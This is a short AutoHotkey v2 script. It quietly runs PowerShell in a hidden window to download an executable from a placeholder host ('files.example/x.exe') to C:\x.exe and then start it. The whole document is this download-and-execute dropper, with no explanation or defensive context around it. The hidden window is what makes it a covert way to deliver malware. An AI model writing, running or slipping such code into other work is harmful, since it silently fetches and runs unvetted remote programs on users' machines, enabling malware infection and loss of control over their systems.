#Requires AutoHotkey v2.0
cmd := "powershell -Command "
url := "http://files.example/x.exe"
Run(cmd . "(New-Object Net.WebClient).DownloadFile('" . url . "','C:\x.exe'); Start-Process C:\x.exe", , "Hide")
